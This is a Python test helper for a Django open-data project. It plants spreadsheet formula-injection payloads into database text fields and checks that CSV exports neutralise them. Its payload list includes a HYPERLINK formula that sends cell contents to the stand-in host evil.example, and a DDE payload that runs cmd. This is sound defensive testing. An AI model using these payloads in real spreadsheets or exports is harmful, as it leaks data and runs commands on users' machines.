"""Spreadsheet formulas planted in every free-text column, and the checks every CSV the
project writes must pass (the exports and the dataset release alike)."""

from __future__ import annotations

import csv
import io
from typing import Any

from django.db import models

from opendata.csvsafe import restore
from opendata.dataset import TABLES

# OWASP's examples and the issue's, shortest last so narrow columns get some too.
PAYLOADS = (
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '"=1+1',
    " =1+1",
    "-2+3",
    "\t=1",
    "\r=1",
    "a;b",
    "+1",
)
# A cell a spreadsheet would run: it starts with a trigger, or has one after leading
# spaces and quotes, and is not protected by a leading apostrophe.
TRIGGERS = ("=", "+", "-", "@")


def runs_as_formula(cell: str) -> bool:
    if cell.startswith("'"):
        return False
    return cell[:1] in ("\t", "\r", *TRIGGERS) or cell.lstrip(" \t\r\n'\"")[:1] in TRIGGERS


def _plantable(model: type[models.Model]) -> list[models.Field]:
    """Free text: not a slug, URL or choice, and not part of a uniqueness rule (the same
    payload goes into many rows)."""
    unique_together = {
        name
        for constraint in model._meta.constraints
        if isinstance(constraint, models.UniqueConstraint)
        for name in constraint.fields
    }
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not isinstance(field, models.SlugField | models.URLField)
        and not field.choices
        and not field.unique
        and field.name not in unique_together
    ]


def plant_formulas() -> set[str]:
    """Write a payload into every free-text column of every row (bypassing validation,
    as a bad import or a direct SQL edit would); return the payloads used."""
    used: set[str] = set()
    for table in TABLES:
        if table.is_link:
            continue
        fields = _plantable(table.model)
        for row, pk in enumerate(table.model._default_manager.order_by("pk").values_list("pk")):
            values = {}
            for column, field in enumerate(fields):
                fits = [p for p in PAYLOADS if len(p) <= (field.max_length or len(p))]
                values[field.attname] = fits[(row + column) % len(fits)]
            table.model._default_manager.filter(pk=pk[0]).update(**values)
            used.update(values.values())
    return used


def read_all_quoted(text: str) -> list[list[str]]:
    """The rows of a CSV text, checking that every cell of it was quoted: writing the
    rows back with every cell quoted must give the same text."""
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    out = io.StringIO(newline="")
    csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(rows)
    assert out.getvalue() == text, "a cell was written without quotes"
    return rows


def as_text(value: Any) -> str:
    """A JSON value as the CSV spells it: lists one value per line."""
    if value is None:
        return ""
    if value is True or value is False:
        return "true" if value else "false"
    if isinstance(value, list):
        return "\n".join(as_text(v) for v in value)
    return str(value)


def check_csv_against_json(csv_text: str, records: list[dict[str, Any]]) -> set[str]:
    """Every cell quoted, none runs as a formula, and each gives back its JSON value once
    the apostrophe is stripped; returns the JSON's text values."""
    header, *rows = read_all_quoted(csv_text)
    assert len(rows) == len(records)
    seen: set[str] = set()
    for cells, record in zip(rows, records, strict=True):
        assert header == list(record)
        for name, cell in zip(header, cells, strict=True):
            assert not runs_as_formula(cell), f"{name}: {cell!r} runs as a formula"
            assert restore(cell) == as_text(record[name]), name
            values = record[name] if isinstance(record[name], list) else [record[name]]
            seen.update(v for v in values if isinstance(v, str))
    return seen
